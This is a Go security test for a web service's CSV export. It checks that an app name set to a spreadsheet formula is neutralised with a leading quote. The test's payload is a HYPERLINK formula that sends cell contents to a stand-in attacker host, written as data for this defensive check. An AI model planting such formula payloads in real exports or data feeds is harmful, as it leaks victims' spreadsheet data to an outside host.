package web_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
)

// CSV injection through the export: an integrator (an app's API key, less
// trusted than the operator) names its app with a spreadsheet formula; the
// operator exports the feed and opens the file in a spreadsheet. The cell
// must not start with = + - @, or the formula runs on the operator's
// machine.
func TestAttackCSVInjectionThroughAppName(t *testing.T) {
	rg := startDev(t)
	formula := `=HYPERLINK("https://attacker.example/?"&A1,"Click")`
	if code, b := rg.do(t, "PATCH", "/v1/app", rg.key, map[string]any{"name": formula}); code != http.StatusOK {
		t.Fatalf("rename: %d %s", code, b)
	}
	rg.start(t, map[string]any{"phone": "+447911123821", "channel": "sms_otp"})
	req, _ := http.NewRequest("GET", rg.url+"/console/api/export?format=csv", nil)
	req.Header.Set("Authorization", "Bearer "+rg.admin)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export: %v %s", err, b)
	}
	for i, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !strings.HasPrefix(cell, "+44") {
			t.Fatalf("cell %s starts a formula: %q", recs[0][i], cell)
		}
	}
	if recs[1][2] != "'"+formula {
		t.Fatalf("app_name cell %q", recs[1][2])
	}
}
